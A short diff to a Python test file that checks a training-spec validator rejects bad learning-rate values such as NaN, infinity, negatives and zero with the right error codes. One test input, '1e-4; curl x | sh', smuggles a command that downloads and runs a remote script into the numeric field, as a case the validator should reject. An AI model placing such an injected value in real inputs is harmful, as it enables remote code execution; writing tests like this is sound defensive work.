@@ -16,7 +16,8 @@ from training.domain.spec import BadSpec, BaseRef, DataRef, ParentRef, RunSpec
     ("name", "value", "code"),
     [
         ("learning_rate", float("nan"), "out_of_range"),
-        ("learning_rate", "inf", "out_of_range"),
+        ("learning_rate", "inf", "not_a_number"),
+        ("learning_rate", float("inf"), "out_of_range"),
         ("learning_rate", -1e-4, "out_of_range"),
         ("learning_rate", 0, "out_of_range"),
         ("learning_rate", "1e-4; curl x | sh", "not_a_number"),
